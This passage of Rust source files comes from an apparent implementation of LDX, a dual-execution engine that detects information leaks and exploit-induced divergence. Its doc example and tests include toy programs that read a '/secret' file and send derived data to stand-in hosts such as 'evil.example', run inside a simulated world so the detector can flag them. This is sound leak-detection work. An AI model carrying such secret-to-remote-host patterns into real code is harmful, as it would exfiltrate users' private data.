    NetRecv(String),
    ClientRecv(i64),
    SyscallKind(Syscall),
    Site(FuncId, SiteId),
}

/// A resolved source.
#[derive(Debug, Clone)]
pub(crate) struct ResolvedSource {
    pub matcher: ResolvedMatcher,
    pub mutation: Mutation,
}

/// All resolved sources.
#[derive(Debug, Clone, Default)]
pub(crate) struct ResolvedSources {
    pub sources: Vec<ResolvedSource>,
}

impl ResolvedSources {
    pub fn resolve(spec: &[SourceSpec], program: &IrProgram) -> Self {
        let sources = spec
            .iter()
            .filter_map(|s| {
                let matcher = match &s.matcher {
                    SourceMatcher::FileRead(path) => {
                        ResolvedMatcher::FileRead(ldx_vos::normalize_path(path))
                    }
                    SourceMatcher::NetRecv(host) => ResolvedMatcher::NetRecv(host.clone()),
                    SourceMatcher::ClientRecv(port) => ResolvedMatcher::ClientRecv(*port),
                    SourceMatcher::SyscallKind(sys) => ResolvedMatcher::SyscallKind(*sys),
                    SourceMatcher::Site(func, site) => {
                        let fid = program.func_id(func)?;
                        ResolvedMatcher::Site(fid, SiteId(*site))
                    }
                };
                Some(ResolvedSource {
                    matcher,
                    mutation: s.mutation.clone(),
                })
            })
            .collect();
        ResolvedSources { sources }
    }
}

/// Sink spec resolved against a program.
#[derive(Debug, Clone)]
pub(crate) struct ResolvedSinks {
    spec: SinkSpec,
    sites: HashSet<(FuncId, SiteId)>,
}

impl ResolvedSinks {
    pub fn resolve(spec: &DualSpec, program: &IrProgram) -> Self {
        let sites = match &spec.sinks {
            SinkSpec::Sites(list) => list
                .iter()
                .filter_map(|(func, site)| program.func_id(func).map(|fid| (fid, SiteId(*site))))
                .collect(),
            _ => HashSet::new(),
        };
        ResolvedSinks {
            spec: spec.sinks.clone(),
            sites,
        }
    }

    /// Whether a syscall instance is a sink.
    pub fn is_sink(&self, func: FuncId, site: SiteId, sys: Syscall, args: &[Value]) -> bool {
        match &self.spec {
            SinkSpec::Outputs => sys.is_output(),
            SinkSpec::NetworkOut => sys == Syscall::Send,
            SinkSpec::FileOut => {
                sys == Syscall::Write && matches!(args.first(), Some(Value::Int(fd)) if *fd >= 3)
            }
            SinkSpec::AllWrites => sys.is_output(),
            SinkSpec::Sites(_) => self.sites.contains(&(func, site)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::spec::DualSpec;
    use ldx_ir::lower;
    use ldx_lang::compile;

    fn program() -> IrProgram {
        lower(
            &compile(
                r#"
                fn helper(x) { write(1, str(x)); return 0; }
                fn main() { helper(1); send(connect("h"), "x"); }
                "#,
            )
            .unwrap(),
        )
    }

    #[test]
    fn resolves_site_sinks() {
        let p = program();
        let spec = DualSpec::default().sinks(SinkSpec::Sites(vec![("helper".into(), 0)]));
        let sinks = ResolvedSinks::resolve(&spec, &p);
        let helper = p.func_id("helper").unwrap();
        assert!(sinks.is_sink(helper, SiteId(0), Syscall::Write, &[]));
        assert!(!sinks.is_sink(p.main(), SiteId(0), Syscall::Write, &[]));
    }

    #[test]
    fn file_out_excludes_stdio() {
        let p = program();
        let spec = DualSpec::default().sinks(SinkSpec::FileOut);
        let sinks = ResolvedSinks::resolve(&spec, &p);
        assert!(!sinks.is_sink(p.main(), SiteId(0), Syscall::Write, &[Value::Int(1)]));
        assert!(sinks.is_sink(p.main(), SiteId(0), Syscall::Write, &[Value::Int(4)]));
        assert!(!sinks.is_sink(p.main(), SiteId(0), Syscall::Send, &[Value::Int(4)]));
    }

    #[test]
    fn unknown_function_site_sources_are_dropped() {
        let p = program();
        let sources = ResolvedSources::resolve(
            &[SourceSpec {
                matcher: SourceMatcher::Site("nope".into(), 0),
                mutation: Mutation::OffByOne,
            }],
            &p,
        );
        assert!(sources.sources.is_empty());
    }

    #[test]
    fn file_paths_normalized() {
        let p = program();
        let sources = ResolvedSources::resolve(&[SourceSpec::file("//etc//x/")], &p);
        let ResolvedMatcher::FileRead(segs) = &sources.sources[0].matcher else {
            panic!()
        };
        assert_eq!(segs, &["etc", "x"]);
    }
}
