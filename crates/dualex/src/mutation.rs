//! Input mutation strategies (paper §8.3 "Input Mutation").
//!
//! LDX perturbs the program state at the sources. The paper's default is
//! **off-by-one** mutation, which provably flips every strong (one-to-one)
//! causality; the alternatives below exist for the ablation study
//! (`ldx-bench`, `ablation_mutation`) that mirrors the paper's comparison
//! of strategies.

use ldx_runtime::Value;
use serde::{Deserialize, Serialize};

/// How a source value is perturbed in the slave execution.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Mutation {
    /// Off-by-one: bump the last alphanumeric character of a string (the
    /// paper's default: "we perform off-by-one mutations... we only mutate
    /// data fields, not magic values"), or add 1 to an integer.
    OffByOne,
    /// Flip the lowest bit of the last character / of the integer.
    BitFlip,
    /// Replace digits/letters with `'0'` (integers become 0). A *lossy*
    /// mutation: many-to-one, so it can miss strong causality — included
    /// to reproduce the paper's finding that nothing supersedes off-by-one.
    Zero,
    /// Replace the whole value with a fixed string.
    Replace(String),
    /// Replace the whole value with a fixed integer.
    SetInt(i64),
    /// Identity (no change) — for control runs: with no mutation the dual
    /// execution must report nothing (invariant I5 in DESIGN.md).
    Identity,
}

impl Mutation {
    /// Applies the mutation to a source value.
    pub fn apply(&self, v: &Value) -> Value {
        match self {
            Mutation::Identity => v.clone(),
            Mutation::Replace(s) => Value::str(s.as_str()),
            Mutation::SetInt(i) => Value::Int(*i),
            Mutation::OffByOne => match v {
                Value::Int(i) => Value::Int(i.wrapping_add(1)),
                Value::Str(s) => Value::str(bump_last_alnum(s, 1)),
                other => other.clone(),
            },
            Mutation::BitFlip => match v {
                Value::Int(i) => Value::Int(i ^ 1),
                Value::Str(s) => Value::str(bump_last_alnum(s, 0)),
                other => other.clone(),
            },
            Mutation::Zero => match v {
                Value::Int(_) => Value::Int(0),
                Value::Str(s) => Value::str(
                    s.chars()
                        .map(|c| if c.is_ascii_alphanumeric() { '0' } else { c })
                        .collect::<String>(),
                ),
                other => other.clone(),
            },
        }
    }
}

/// Bumps the last alphanumeric character: `delta == 1` rotates forward by
/// one within its class (digit/lower/upper); `delta == 0` flips bit 0.
fn bump_last_alnum(s: &str, delta: u8) -> String {
    let mut chars: Vec<char> = s.chars().collect();
    for c in chars.iter_mut().rev() {
        if c.is_ascii_alphanumeric() {
            let b = *c as u8;
            let nb = if delta == 0 {
                let flipped = b ^ 1;
                if flipped.is_ascii_alphanumeric() {
                    flipped
                } else {
                    b ^ 2
                }
            } else {
                match b {
                    b'0'..=b'8' | b'a'..=b'y' | b'A'..=b'Y' => b + 1,
                    b'9' => b'0',
                    b'z' => b'a',
                    b'Z' => b'A',
                    _ => unreachable!(),
                }
            };
            *c = nb as char;
            break;
        }
    }
    chars.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn s(v: &str) -> Value {
        Value::Str(v.into())
    }

    #[test]
    fn off_by_one_changes_exactly_one_char() {
        assert_eq!(Mutation::OffByOne.apply(&s("STAFF")), s("STAFG"));
        assert_eq!(Mutation::OffByOne.apply(&s("42")), s("43"));
        assert_eq!(Mutation::OffByOne.apply(&s("a9")), s("a0"));
        assert_eq!(Mutation::OffByOne.apply(&s("z")), s("a"));
        assert_eq!(Mutation::OffByOne.apply(&s("x!!")), s("y!!"));
        assert_eq!(Mutation::OffByOne.apply(&Value::Int(7)), Value::Int(8));
    }

    #[test]
    fn off_by_one_always_differs_for_alnum_inputs() {
        for input in ["a", "Z", "0", "password123", "MANAGER"] {
            assert_ne!(Mutation::OffByOne.apply(&s(input)), s(input));
        }
    }

    #[test]
    fn identity_never_changes() {
        for input in ["", "abc", "!!"] {
            assert_eq!(Mutation::Identity.apply(&s(input)), s(input));
        }
        assert_eq!(Mutation::Identity.apply(&Value::Int(3)), Value::Int(3));
    }

    #[test]
    fn bitflip_changes_value() {
        assert_ne!(Mutation::BitFlip.apply(&s("abc")), s("abc"));
        assert_eq!(Mutation::BitFlip.apply(&Value::Int(6)), Value::Int(7));
    }

    #[test]
    fn zero_is_many_to_one() {
        assert_eq!(Mutation::Zero.apply(&s("a1b2")), s("0000"));
        assert_eq!(Mutation::Zero.apply(&s("x-y")), s("0-0"));
        assert_eq!(Mutation::Zero.apply(&Value::Int(99)), Value::Int(0));
        // Lossy: distinct inputs can collapse.
        assert_eq!(
            Mutation::Zero.apply(&s("ab")),
            Mutation::Zero.apply(&s("cd"))
        );
    }

    #[test]
    fn replace_and_setint() {
        assert_eq!(
            Mutation::Replace("MANAGER".into()).apply(&s("STAFF")),
            s("MANAGER")
        );
        assert_eq!(Mutation::SetInt(5).apply(&s("x")), Value::Int(5));
    }

    #[test]
    fn empty_and_nonalnum_strings_survive() {
        assert_eq!(Mutation::OffByOne.apply(&s("")), s(""));
        assert_eq!(Mutation::OffByOne.apply(&s("!!")), s("!!"));
    }
}
