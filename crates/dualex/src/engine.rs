//! The dual-execution orchestrator.

use crate::couple::Coupling;
use crate::master::MasterHooks;
use crate::report::{CausalityKind, CausalityRecord, DualReport, Role};
use crate::resolved::{ResolvedSinks, ResolvedSources};
use crate::slave::SlaveHooks;
use crate::spec::DualSpec;
use ldx_ir::{FuncId, IrProgram, SiteId};
use ldx_lang::Syscall;
use ldx_runtime::{run_program, LockTable, ProgressKey, RunOutcome, SyscallHooks, ThreadKey, Trap};
use ldx_vos::{SlaveVos, Vos, VosConfig};
use parking_lot::Mutex;
use std::collections::{HashMap, HashSet};
use std::sync::atomic::Ordering;
use std::sync::Arc;

/// Runs the master and the slave concurrently (each on its own OS thread,
/// like the paper's "two separate CPUs") and returns the causality report.
///
/// The master executes against a fresh world built from `config`; the
/// slave shares the master's aligned syscall outcomes, perturbs the
/// configured sources, and falls back to a private copy-on-divergence
/// overlay when the executions diverge.
///
/// # Reentrancy
///
/// This entry point is **reentrant and `Send`-safe**: every piece of
/// coupling state — the `Coupling` channel, both worlds, lock tables,
/// fd maps — is allocated per call and shared only between the two
/// threads this call spawns. There are no `static`s or thread-locals
/// anywhere in the engine (audited: `couple.rs`, `master.rs`,
/// `slave.rs`, `fdmap.rs`), so any number of `dual_execute` calls may
/// run concurrently from different threads — the contract the batch
/// scheduler in `ldx::batch` relies on. Each call uses **two** OS
/// threads; schedulers should budget accordingly.
pub fn dual_execute(program: Arc<IrProgram>, config: &VosConfig, spec: &DualSpec) -> DualReport {
    // Compile-time audit that the inputs cross thread boundaries safely
    // (the scoped spawns below require it, but spell the contract out).
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Arc<IrProgram>>();
    assert_send_sync::<VosConfig>();
    assert_send_sync::<DualSpec>();
    dual_execute_inner(program, config, spec)
}

fn dual_execute_inner(program: Arc<IrProgram>, config: &VosConfig, spec: &DualSpec) -> DualReport {
    let coupling = Arc::new(Coupling::new(spec.trace, spec.record));
    let master_vos = Arc::new(Vos::new(config));

    let sinks = ResolvedSinks::resolve(spec, &program);
    let sources = ResolvedSources::resolve(&spec.sources, &program);

    let master_hooks: Arc<dyn SyscallHooks> = Arc::new(MasterHooks {
        coupling: Arc::clone(&coupling),
        vos: Arc::clone(&master_vos),
        locks: LockTable::new(),
        sinks: sinks.clone(),
        enforcement: spec.enforcement,
    });
    let slave_hooks: Arc<dyn SyscallHooks> = Arc::new(SlaveHooks {
        coupling: Arc::clone(&coupling),
        overlay: SlaveVos::new(Arc::clone(&master_vos), config),
        locks: LockTable::new(),
        sinks,
        sources,
        fdmap: Mutex::new(Default::default()),
        decoupled_threads: Mutex::new(HashSet::new()),
        spawn_counts: Mutex::new(HashMap::new()),
    });

    let exec = spec.exec;
    // A flow arrow links the master and slave spans of this run in the
    // Chrome trace (ph "s" on the master thread, ph "f" on the slave's).
    let flow_id = ldx_obs::tracing_enabled().then(ldx_obs::next_flow_id);
    let (master_result, slave_result) = std::thread::scope(|s| {
        let mc = Arc::clone(&coupling);
        let mp = Arc::clone(&program);
        let master = s.spawn(move || {
            let _s = ldx_obs::span(ldx_obs::cat::MASTER, "run");
            if let Some(id) = flow_id {
                ldx_obs::flow_point(ldx_obs::cat::FLOW, "dual-run", id, true);
            }
            let r = run_program(mp, master_hooks, exec);
            mc.finish_execution(Role::Master);
            r
        });
        let sc = Arc::clone(&coupling);
        let sp = Arc::clone(&program);
        let slave = s.spawn(move || {
            let _s = ldx_obs::span(ldx_obs::cat::SLAVE, "run");
            if let Some(id) = flow_id {
                ldx_obs::flow_point(ldx_obs::cat::FLOW, "dual-run", id, false);
            }
            let r = run_program(sp, slave_hooks, exec);
            sc.finish_execution(Role::Slave);
            r
        });
        (
            master.join().expect("master thread"),
            slave.join().expect("slave thread"),
        )
    });

    // Master-only leftovers (syscalls the slave never reached).
    coupling.reconcile();

    // The implicit whole-execution sink: different end states (crash vs
    // normal exit, different exit codes) indicate causality too — this is
    // how exploit-induced crashes surface in attack detection.
    if let Some((m, s)) = end_diff(&master_result, &slave_result) {
        coupling.record(CausalityRecord {
            kind: CausalityKind::EndDiff {
                master: m,
                slave: s,
            },
            thread: ThreadKey::root(),
            key: ProgressKey::top(),
            func: FuncId(0),
            site: SiteId(0),
            sys: Syscall::Exit,
        });
    }

    // Drain the flight recorder after reconcile so master-only leftovers
    // are included; this is per-Coupling (hence per-job under the batch
    // engine), so logs can never interleave across jobs.
    let flight = coupling.take_flight_log();

    // Mirror the coupling counters into the process-wide registry (one
    // relaxed load each; the registry sums across batch jobs).
    if ldx_obs::metrics_enabled() {
        ldx_obs::counter_add("dualex.runs", 1);
        ldx_obs::counter_add(
            "dualex.shared",
            coupling.stats.shared.load(Ordering::Relaxed),
        );
        ldx_obs::counter_add(
            "dualex.decoupled",
            coupling.stats.decoupled.load(Ordering::Relaxed),
        );
        ldx_obs::counter_add(
            "dualex.syscall_diffs",
            coupling.stats.diffs.load(Ordering::Relaxed),
        );
        ldx_obs::counter_add(
            "dualex.master_sinks",
            coupling.stats.master_sinks.load(Ordering::Relaxed),
        );
        ldx_obs::counter_add("recorder.events", flight.events());
        ldx_obs::counter_add("recorder.dropped", flight.dropped());
    }

    let causality = coupling.records.lock().clone();
    let trace = coupling
        .trace
        .as_ref()
        .map(|t| t.lock().clone())
        .unwrap_or_default();
    DualReport {
        causality,
        master: master_result,
        slave: slave_result,
        syscall_diffs: coupling.stats.diffs.load(Ordering::Relaxed),
        shared: coupling.stats.shared.load(Ordering::Relaxed),
        decoupled: coupling.stats.decoupled.load(Ordering::Relaxed),
        master_sinks: coupling.stats.master_sinks.load(Ordering::Relaxed),
        trace,
        flight,
    }
}

fn end_diff(
    master: &Result<RunOutcome, Trap>,
    slave: &Result<RunOutcome, Trap>,
) -> Option<(String, String)> {
    let render = |r: &Result<RunOutcome, Trap>| match r {
        Ok(out) => format!("exit {}", out.exit_code),
        Err(trap) => format!("trap: {trap}"),
    };
    let differs = match (master, slave) {
        (Ok(m), Ok(s)) => m.exit_code != s.exit_code,
        (Err(_), Err(_)) => false,
        _ => true,
    };
    differs.then(|| (render(master), render(slave)))
}
