//! Causality reports and dual-execution outcome types.

use crate::recorder::FlightLog;
use ldx_ir::{FuncId, SiteId};
use ldx_lang::Syscall;
use ldx_runtime::{ProgressKey, RunOutcome, ThreadKey, Trap};
use std::collections::BTreeSet;
use std::fmt;

/// Why a causality was reported at a sink (the cases of paper Alg. 2).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CausalityKind {
    /// Aligned sinks with different arguments (case 3).
    ArgDiff {
        /// The master's sink payload.
        master: String,
        /// The slave's sink payload.
        slave: String,
    },
    /// A sink the master executed that has no aligned slave sink (cases
    /// 1–2: the perturbation made it disappear).
    MasterOnlySink,
    /// A sink only the slave executed (the perturbation made it appear).
    SlaveOnlySink,
    /// Same progress key but a different site/syscall (case 2: path
    /// difference at a sink).
    PathDiffAtSink,
    /// The executions ended differently (one trapped / different exit
    /// codes) — the implicit whole-execution sink, used by attack
    /// detection when the exploit crashes one run.
    EndDiff {
        /// Rendered master end state.
        master: String,
        /// Rendered slave end state.
        slave: String,
    },
}

/// One detected strong causality between the sources and a sink.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CausalityRecord {
    /// Which kind of difference was observed.
    pub kind: CausalityKind,
    /// The Lx thread (pair) that reached the sink.
    pub thread: ThreadKey,
    /// Progress key of the sink.
    pub key: ProgressKey,
    /// Function containing the sink site.
    pub func: FuncId,
    /// The sink site.
    pub site: SiteId,
    /// The sink syscall.
    pub sys: Syscall,
}

impl fmt::Display for CausalityRecord {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let kind = match &self.kind {
            CausalityKind::ArgDiff { master, slave } => {
                format!("argument difference ({master:?} vs {slave:?})")
            }
            CausalityKind::MasterOnlySink => "sink missing in slave".to_string(),
            CausalityKind::SlaveOnlySink => "sink only in slave".to_string(),
            CausalityKind::PathDiffAtSink => "path difference at sink".to_string(),
            CausalityKind::EndDiff { master, slave } => {
                format!("execution end difference ({master} vs {slave})")
            }
        };
        write!(
            f,
            "causality at {}:{} ({}) on {} [key {}]: {kind}",
            self.func, self.site, self.sys, self.thread, self.key
        )
    }
}

/// One line of the alignment trace (reproduces paper Figures 3 and 5).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TraceEvent {
    /// Which execution acted.
    pub role: Role,
    /// The thread.
    pub thread: ThreadKey,
    /// Progress key.
    pub key: ProgressKey,
    /// Syscall (None for barriers).
    pub sys: Option<Syscall>,
    /// What happened.
    pub action: TraceAction,
}

/// Master or slave.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    /// The original execution.
    Master,
    /// The perturbed execution.
    Slave,
}

impl fmt::Display for Role {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Role::Master => write!(f, "M"),
            Role::Slave => write!(f, "S"),
        }
    }
}

/// What a trace event records.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TraceAction {
    /// Master executed and recorded the outcome.
    Executed,
    /// Slave copied the master's aligned outcome.
    Copied,
    /// Slave executed decoupled (no alignment).
    Decoupled,
    /// Slave copied an aligned *source* outcome and mutated it.
    Mutated,
    /// Sink compared equal.
    SinkMatch,
    /// Sink difference (causality).
    SinkDiff,
    /// Loop-backedge barrier crossed.
    Barrier,
}

impl fmt::Display for TraceAction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            TraceAction::Executed => "exec",
            TraceAction::Copied => "copy",
            TraceAction::Decoupled => "decoupled",
            TraceAction::Mutated => "copy+mutate",
            TraceAction::SinkMatch => "sink=",
            TraceAction::SinkDiff => "sink!",
            TraceAction::Barrier => "barrier",
        };
        write!(f, "{s}")
    }
}

/// The result of one dual execution.
#[derive(Debug, Clone)]
pub struct DualReport {
    /// All detected causality records.
    pub causality: Vec<CausalityRecord>,
    /// Master's run outcome.
    pub master: Result<RunOutcome, Trap>,
    /// Slave's run outcome.
    pub slave: Result<RunOutcome, Trap>,
    /// Syscall differences observed before/around sinks (paper Table 2):
    /// master-only entries plus slave decoupled executions, sinks excluded.
    pub syscall_diffs: u64,
    /// Outcomes shared master → slave.
    pub shared: u64,
    /// Slave syscalls executed decoupled.
    pub decoupled: u64,
    /// Total sink *instances* the master encountered.
    pub master_sinks: u64,
    /// The alignment trace, when requested.
    pub trace: Vec<TraceEvent>,
    /// The divergence flight log, when `DualSpec::record` was set (empty
    /// otherwise).
    pub flight: FlightLog,
}

impl DualReport {
    /// Whether any causality (leak / attack evidence) was detected.
    pub fn leaked(&self) -> bool {
        !self.causality.is_empty()
    }

    /// Number of *dynamic* sink instances with causality.
    pub fn tainted_sinks(&self) -> usize {
        self.causality
            .iter()
            .filter(|c| !matches!(c.kind, CausalityKind::EndDiff { .. }))
            .count()
    }

    /// Distinct static sink sites with causality.
    pub fn tainted_sites(&self) -> usize {
        self.causality
            .iter()
            .filter(|c| !matches!(c.kind, CausalityKind::EndDiff { .. }))
            .map(|c| (c.func, c.site))
            .collect::<BTreeSet<_>>()
            .len()
    }

    /// Renders the trace like the paper's figures.
    pub fn trace_lines(&self) -> Vec<String> {
        self.trace
            .iter()
            .map(|e| {
                let sys = e
                    .sys
                    .map(|s| s.to_string())
                    .unwrap_or_else(|| "-".to_string());
                format!("{} {} cnt={} {} {}", e.role, e.thread, e.key, sys, e.action)
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record(kind: CausalityKind, site: u32) -> CausalityRecord {
        CausalityRecord {
            kind,
            thread: ThreadKey::root(),
            key: ProgressKey::start(),
            func: FuncId(0),
            site: SiteId(site),
            sys: Syscall::Send,
        }
    }

    fn empty_report() -> DualReport {
        DualReport {
            causality: vec![],
            master: Err(Trap::DivisionByZero),
            slave: Err(Trap::DivisionByZero),
            syscall_diffs: 0,
            shared: 0,
            decoupled: 0,
            master_sinks: 0,
            trace: vec![],
            flight: FlightLog::default(),
        }
    }

    #[test]
    fn tainted_counts() {
        let mut r = empty_report();
        assert!(!r.leaked());
        r.causality.push(record(CausalityKind::MasterOnlySink, 1));
        r.causality.push(record(
            CausalityKind::ArgDiff {
                master: "a".into(),
                slave: "b".into(),
            },
            1,
        ));
        r.causality.push(record(CausalityKind::SlaveOnlySink, 2));
        r.causality.push(record(
            CausalityKind::EndDiff {
                master: "ok".into(),
                slave: "trap".into(),
            },
            0,
        ));
        assert!(r.leaked());
        assert_eq!(r.tainted_sinks(), 3, "EndDiff not a sink instance");
        assert_eq!(r.tainted_sites(), 2);
    }

    #[test]
    fn displays_are_informative() {
        let c = record(
            CausalityKind::ArgDiff {
                master: "x".into(),
                slave: "y".into(),
            },
            3,
        );
        let text = c.to_string();
        assert!(text.contains("send"));
        assert!(text.contains("argument difference"));
    }

    #[test]
    fn trace_lines_render() {
        let mut r = empty_report();
        r.trace.push(TraceEvent {
            role: Role::Slave,
            thread: ThreadKey::root(),
            key: ProgressKey::start(),
            sys: Some(Syscall::Read),
            action: TraceAction::Copied,
        });
        let lines = r.trace_lines();
        assert_eq!(lines.len(), 1);
        assert!(lines[0].starts_with("S t0"));
        assert!(lines[0].contains("read"));
        assert!(lines[0].contains("copy"));
    }
}
