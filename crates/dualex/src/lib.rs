//! LDX: lightweight dual execution for counterfactual causality inference.
//!
//! This crate is the paper's runtime contribution. Given an instrumented Lx
//! program, [`dual_execute`] runs a **master** execution (the original) and
//! a **slave** execution (with perturbed sources) concurrently, coupled
//! through shared syscall outcomes:
//!
//! * when the executions are aligned (same progress key, site, arguments),
//!   the slave *copies* the master's syscall outcomes, so nondeterministic
//!   inputs (time, entropy, external events) cannot cause spurious
//!   differences;
//! * when the perturbation makes the paths diverge, the counter scheme
//!   detects it; misaligned syscalls execute *decoupled* against the
//!   slave's copy-on-divergence overlay, and the executions re-align at
//!   the next join point because the instrumented counter is
//!   path-independent;
//! * differences observed at **sinks** — aligned sinks with different
//!   payloads, or sinks present in only one execution — are *strong
//!   counterfactual causality* between the sources and the sink:
//!   an information leak, or exploit evidence.
//!
//! # Example: detecting a control-dependence leak
//!
//! The paper's central claim is that LDX catches causality that
//! dependence-based taint tracking misses — here the output reveals the
//! secret through a *branch*, with no data flow at all:
//!
//! ```
//! use std::sync::Arc;
//! use ldx_dualex::{dual_execute, DualSpec, SourceSpec};
//! use ldx_vos::VosConfig;
//!
//! let program = ldx_instrument::instrument(&ldx_ir::lower(&ldx_lang::compile(r#"
//!     fn main() {
//!         let fd = open("/secret", 0);
//!         let s = read(fd, 8);
//!         let msg = "low";
//!         if (s == "A") { msg = "high"; }      // control dependence only
//!         send(connect("evil.example"), msg);
//!     }
//! "#)?)).into_program();
//!
//! let world = VosConfig::new()
//!     .file("/secret", "A")
//!     .peer("evil.example", ldx_vos::PeerBehavior::Echo);
//! let spec = DualSpec::with_source(SourceSpec::file("/secret"));
//! let report = dual_execute(Arc::new(program), &world, &spec);
//! assert!(report.leaked(), "the control-dependence leak is detected");
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

mod couple;
mod engine;
mod fdmap;
mod master;
mod mutation;
mod recorder;
mod report;
mod resolved;
mod slave;
mod spec;

pub use engine::dual_execute;
pub use mutation::Mutation;
pub use recorder::{
    key_scalar, ByteDiff, Decision, FlightEvent, FlightLog, ResourceId, DEFAULT_FLIGHT_CAPACITY,
    EXCERPT_BYTES,
};
pub use report::{CausalityKind, CausalityRecord, DualReport, Role, TraceAction, TraceEvent};
pub use spec::{DualSpec, SinkSpec, SourceMatcher, SourceSpec};

#[cfg(test)]
mod tests {
    use super::*;
    use ldx_vos::{PeerBehavior, VosConfig};
    use std::sync::Arc;

    fn build(src: &str) -> Arc<ldx_ir::IrProgram> {
        Arc::new(
            ldx_instrument::instrument(&ldx_ir::lower(&ldx_lang::compile(src).unwrap()))
                .into_program(),
        )
    }

    /// The paper's running example (Fig. 2): employee record processing
    /// where the raise leaks the title through control dependences.
    fn employee_program() -> Arc<ldx_ir::IrProgram> {
        build(
            r#"
            fn sraise(salary, contract) {
                let fd = open(contract, 0);
                let rate = int(read(fd, 4));
                return salary * rate / 100;
            }
            fn mraise(salary) {
                let r = sraise(salary, "/contracts/manager");
                if (salary > 5000) {
                    write(3, "senior manager");
                }
                return r + 10;
            }
            fn main() {
                let fd = open("/employee", 0);
                let title = trim(read(fd, 8));
                let salary = int(read(fd, 8));
                let raise = 0;
                if (title == "STAFF") {
                    raise = sraise(salary, "/contracts/staff");
                } else {
                    raise = mraise(salary);
                    let dept = read(fd, 8);
                }
                let sock = connect("hr.example");
                send(sock, str(raise));
            }
            "#,
        )
    }

    fn employee_world() -> VosConfig {
        VosConfig::new()
            .file("/employee", "STAFF   1000    SALES   ")
            .file("/contracts/staff", "3   ")
            .file("/contracts/manager", "7   ")
            .peer("hr.example", PeerBehavior::Echo)
    }

    #[test]
    fn identity_mutation_reports_nothing() {
        // Invariant I5: no perturbation => perfect alignment, no report.
        let spec =
            DualSpec::with_source(SourceSpec::file("/employee").with_mutation(Mutation::Identity));
        let report = dual_execute(employee_program(), &employee_world(), &spec);
        assert!(report.master.is_ok(), "master: {:?}", report.master);
        assert!(report.slave.is_ok(), "slave: {:?}", report.slave);
        assert!(!report.leaked(), "records: {:?}", report.causality);
        assert_eq!(report.syscall_diffs, 0);
        assert_eq!(report.decoupled, 0);
        assert!(report.shared > 0);
    }

    #[test]
    fn figure2_control_dependence_leak_detected() {
        // Mutate the title STAFF -> MANAGER: the slave takes the manager
        // branch (different syscalls inside), re-aligns at the send, and
        // the raise value differs -> strong causality, exactly the paper's
        // Fig. 3 scenario.
        let spec = DualSpec::with_source(SourceSpec {
            matcher: SourceMatcher::FileRead("/employee".into()),
            mutation: Mutation::Replace("MANAGER 9000    SALES   ".into()),
        })
        .traced();
        let report = dual_execute(employee_program(), &employee_world(), &spec);
        assert!(report.master.is_ok() && report.slave.is_ok());
        assert!(report.leaked(), "leak must be detected");
        assert!(
            report.causality.iter().any(|c| matches!(
                c.kind,
                CausalityKind::ArgDiff { .. } | CausalityKind::MasterOnlySink
            )),
            "causality at the send sink: {:?}",
            report.causality
        );
        assert!(
            report.syscall_diffs > 0,
            "branch divergence causes syscall diffs"
        );
        assert!(!report.trace.is_empty());
    }

    #[test]
    fn syscall_differences_without_leak_are_tolerated() {
        // The heart of paper Table 2 / the TightLip comparison: the
        // mutation changes *which* syscalls run (different branch, extra
        // reads) but the final output is the same -> LDX must stay silent
        // where TightLip would (falsely) report.
        let program = build(
            r#"
            fn main() {
                let fd = open("/config", 0);
                let mode = trim(read(fd, 8));
                if (mode == "cache") {
                    let c = open("/cache/data", 0);
                    let cached = read(c, 16);
                    close(c);
                } else {
                    mkdir("/cache");
                    let w = open("/cache/data", 1);
                    write(w, "fresh-data      ");
                    close(w);
                }
                send(connect("client.example"), "ok");
            }
            "#,
        );
        let world = VosConfig::new()
            .file("/config", "cache   ")
            .file("/cache/data", "fresh-data      ")
            .peer("client.example", PeerBehavior::Echo);
        let spec = DualSpec::default()
            .source(SourceSpec {
                matcher: SourceMatcher::FileRead("/config".into()),
                mutation: Mutation::Replace("rebuild ".into()),
            })
            .sinks(SinkSpec::NetworkOut);
        let report = dual_execute(program, &world, &spec);
        assert!(report.master.is_ok() && report.slave.is_ok());
        assert!(
            report.syscall_diffs > 0,
            "the two executions take different paths"
        );
        assert!(
            !report.leaked(),
            "no sink difference => no causality: {:?}",
            report.causality
        );
    }

    #[test]
    fn data_dependence_leak_detected() {
        let program = build(
            r#"fn main() {
                let fd = open("/secret", 0);
                let s = read(fd, 16);
                send(connect("out.example"), "v=" + s);
            }"#,
        );
        let world = VosConfig::new()
            .file("/secret", "k3y")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::with_source(SourceSpec::file("/secret"));
        let report = dual_execute(program, &world, &spec);
        assert!(report.leaked());
        let CausalityKind::ArgDiff { master, slave } = &report.causality[0].kind else {
            panic!("expected ArgDiff, got {:?}", report.causality[0].kind)
        };
        assert_ne!(master, slave);
    }

    #[test]
    fn unrelated_output_not_reported() {
        // The output does not depend on the secret at all.
        let program = build(
            r#"fn main() {
                let fd = open("/secret", 0);
                let s = read(fd, 16);
                let t = len(s) * 0;
                send(connect("out.example"), "constant" + str(t));
            }"#,
        );
        let world = VosConfig::new()
            .file("/secret", "abc")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::with_source(SourceSpec::file("/secret"));
        let report = dual_execute(program, &world, &spec);
        assert!(!report.leaked(), "{:?}", report.causality);
        assert!(report.shared > 0);
    }

    #[test]
    fn loops_with_source_dependent_trip_counts_realign() {
        // Paper Fig. 4/5: loop bounds are the sources; iteration counts
        // differ between master and slave, yet the executions re-align at
        // the final send.
        let program = build(
            r#"fn main() {
                let fd = open("/in", 0);
                let n = int(read(fd, 2));
                let m = int(read(fd, 2));
                let total = 0;
                for (let i = 0; i < n; i = i + 1) {
